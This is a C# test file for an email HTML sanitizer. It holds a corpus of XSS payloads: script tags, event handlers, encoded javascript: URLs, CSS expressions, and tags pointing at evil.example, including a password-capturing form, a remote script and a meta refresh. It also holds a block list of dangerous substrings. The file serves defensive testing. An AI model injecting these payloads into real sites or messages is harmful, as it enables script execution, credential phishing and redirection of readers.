using BrandHub.Core.Content;

namespace BrandHub.Core.Tests.Content;

public sealed class EmailHtmlSanitizerTests
{
    /// <summary>Markup that must never survive, in the disguises attackers use.</summary>
    private static readonly string[] Corpus =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=p type=password><button>Go</button></form>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>@\\69mport 'x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background-image: url('javascript:alert(1)')\">x</div>",
        "<div style=\"-moz-binding: url(x.xml#xss)\">x</div>",
        "<div style=\"position:fixed;top:0\">fake login</div>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<body onload=alert(1)>",
        "<p><b><i>nested <a href='javascript:alert(1)' onclick=alert(2)>broken",
        "<<script>script>alert(1)<</script>/script>",
        "<img src=\"x\"/onerror=\"alert(1)\">",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<details open ontoggle=alert(1)>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<a href=\"{{data.x}}\" onmouseover=\"alert(1)\">x</a>",
    ];

    public static TheoryData<string> XssCorpus => new(Corpus);

    [Theory]
    [MemberData(nameof(XssCorpus))]
    public void Nothing_that_runs_survives(string html)
    {
        var result = EmailHtmlSanitizer.Sanitize(html);
        var lower = result.Html.ToLowerInvariant();
        foreach (var bad in (string[])["<script", "javascript:", "vbscript:", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "<iframe",
                     "<object", "<embed", "<form", "<input", "<svg", "<math", "@import", "expression(", "-moz-binding", "position", "refresh", "<base",
                     "<link", "data:text", "data:image/svg", "\\69"])
            lower.ShouldNotContain(bad, customMessage: result.Html);
        result.Warnings.ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData("<p>Hi {{contact.firstName}},</p>")]
    [InlineData("<a href=\"{{links.unsubscribeUrl}}\">Unsubscribe</a>")]
    [InlineData("<a href=\"https://shop.example/o/{{data.order.id}}?ref={{contact.email}}\">Order</a>")]
    [InlineData("<table><tbody>{{#each data.items}}<tr><td>{{this.name}}</td><td>{{price}}</td></tr>{{/each}}</tbody></table>")]
    [InlineData("<table><tbody><tr><td class=\"{{#if data.vip}}vip{{/if}}\" style=\"color: {{data.color}};\">x</td></tr></tbody></table>")]
    [InlineData("<ul>{{#each data.items}}<li>{{name}}</li>{{else}}<li>none</li>{{/each}}</ul>")]
    [InlineData("<img src=\"{{data.imageUrl}}\" alt=\"{{data.alt}}\">")]
    public void Handlebars_tags_survive_in_text_attributes_and_between_table_rows(string html)
    {
        var result = EmailHtmlSanitizer.Sanitize(html);
        result.Warnings.ShouldBeEmpty();
        var expectedTags = MustacheScanner.Scan(html).Tags.Select(t => t.Text(html));
        MustacheScanner.Scan(result.Html).Tags.Select(t => t.Text(result.Html)).ShouldBe(expectedTags);
        if (html.Contains("{{#each data.items}}<tr>")) result.Html.ShouldContain("{{#each data.items}}<tr>");
    }

    [Fact]
    public void A_whole_email_document_keeps_its_head_styles_tables_and_outlook_comments()
    {
        const string html = """
            <!DOCTYPE html>
            <html xmlns:v="urn:schemas-microsoft-com:vml"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
            <title>News</title><style>.btn{background:#f60;color:#fff} @media (max-width:600px){.col{width:100%!important}}</style></head>
            <body style="margin:0"><!--[if mso]><table role="presentation" width="600"><tr><td><![endif]-->
            <table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#ffffff"><tr><td align="center" style="padding: 16px; font-family: Arial, sans-serif;">
            <h1>Hello {{contact.firstName}}</h1><a class="btn" href="https://shop.example/?utm_source=x&amp;a=1" target="_blank">Shop</a>
            <img src="cid:logo" alt="Logo" width="120"></td></tr></table>
            <!--[if mso]></td></tr></table><![endif]--></body></html>
            """;
        var result = EmailHtmlSanitizer.Sanitize(html);
        result.Warnings.ShouldBeEmpty();
        result.Html.ShouldStartWith("<!DOCTYPE html>");
        foreach (var kept in (string[])["<style>.btn{background:#f60;color:#fff}", "<!--[if mso]><table role=\"presentation\" width=\"600\">", "cellpadding=\"0\"",
                     "style=\"padding: 16px; font-family: Arial, sans-serif;\"", "href=\"https://shop.example/?utm_source=x&amp;a=1\"", "src=\"cid:logo\"",
                     "<h1>Hello {{contact.firstName}}</h1>", "xmlns:v="])
            result.Html.ShouldContain(kept);
    }

    [Fact]
    public void Removals_are_reported_once_each_with_a_reason()
    {
        var result = EmailHtmlSanitizer.Sanitize("<p onclick=\"a()\">x</p><p onclick=\"b()\">y</p><script>z</script><blink>hey</blink>");
        result.Warnings.Select(w => w.Code).ShouldBe(["attribute_removed", "element_removed", "element_unwrapped"]);
        result.Warnings[1].Message.ShouldContain("scripts never run");
        result.Html.ShouldBe("<p>x</p><p>y</p>hey");
    }

    [Fact]
    public void Unsafe_style_declarations_are_dropped_and_safe_ones_kept()
    {
        var result = EmailHtmlSanitizer.Sanitize("<div style=\"color:red; position:absolute; background:url(https://cdn.example/bg.png); width:expression(1)\">x</div>");
        result.Html.ShouldBe("<div style=\"color: red; background: url(https://cdn.example/bg.png);\">x</div>");
        result.Warnings.Select(w => w.Message).ShouldBe(
            ["Removed the CSS property position from <div>: it is not allowed in email or has an unsafe value.",
             "Removed the CSS property width from <div>: it is not allowed in email or has an unsafe value."]);
    }

    [Theory]
    [InlineData("<a href=\"mailto:hi@shop.example\">m</a>")]
    [InlineData("<a href=\"tel:+40700000000\">t</a>")]
    [InlineData("<a href=\"#top\">t</a>")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\">")]
    [InlineData("<img src=\"https://cdn.example/a.png\">")]
    public void Allowed_urls_stay(string html)
    {
        var result = EmailHtmlSanitizer.Sanitize(html);
        result.Warnings.ShouldBeEmpty();
        result.Html.ShouldBe(html);
    }

    [Fact]
    public void A_template_tag_between_attributes_is_a_problem_with_its_position()
    {
        var result = EmailHtmlSanitizer.Sanitize("<p>\n<td {{#if data.x}}class=\"a\"{{/if}}>x</td>");
        result.Problems.Count.ShouldBe(2);
        result.Problems[0].Position.ShouldBe(new TemplatePosition(2, 5));
        result.Problems[0].Message.ShouldContain("between attributes");
    }

    [Fact]
    public void Sanitising_twice_changes_nothing_more()
    {
        foreach (var html in Corpus)
        {
            var once = EmailHtmlSanitizer.Sanitize(html).Html;
            var twice = EmailHtmlSanitizer.Sanitize(once);
            twice.Html.ShouldBe(once);
            twice.Warnings.ShouldBeEmpty(once);
        }
    }

    [Fact]
    public void Random_mixtures_of_dangerous_fragments_never_produce_script_or_handlers()
    {
        // Property-style: shuffle pieces of the corpus with benign markup and template tags; whatever the parser makes of
        // the mess, the output holds nothing that runs.
        var pieces = Corpus.Concat(["<p>", "</p>", "<table>", "<tr>", "<td>", "</td>", "{{contact.firstName}}", "\"", "'", "<", ">",
            "<a href=\"", "<img ", " src=", "{{#if data.x}}", "{{/if}}", "<!--", "-->", "<style>", "</style>"]).ToArray();
        var random = new Random(20240611);
        for (var i = 0; i < 500; i++)
        {
            var html = string.Concat(Enumerable.Range(0, random.Next(1, 12)).Select(_ => pieces[random.Next(pieces.Length)]));
            var output = EmailHtmlSanitizer.Sanitize(html).Html;
            var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(output);
            foreach (var element in document.All)
            {
                EmailHtmlAllowList.Dropped.ContainsKey(element.LocalName).ShouldBeFalse($"<{element.LocalName}> from {html}");
                foreach (var attribute in element.Attributes)
                {
                    attribute.Name.ShouldNotStartWith("on", Case.Insensitive, html);
                    if (EmailHtmlAllowList.UrlAttributes.TryGetValue(attribute.Name, out var use)) UrlPolicy.IsAllowed(attribute.Value, use).ShouldBeTrue(html);
                    if (attribute.Name == "style") CssPolicy.UnsafeValue(attribute.Value).ShouldBeNull(html);
                }
                if (element.LocalName == "style") CssPolicy.UnsafeSheet(element.TextContent).ShouldBeNull(html);
            }
        }
    }
}
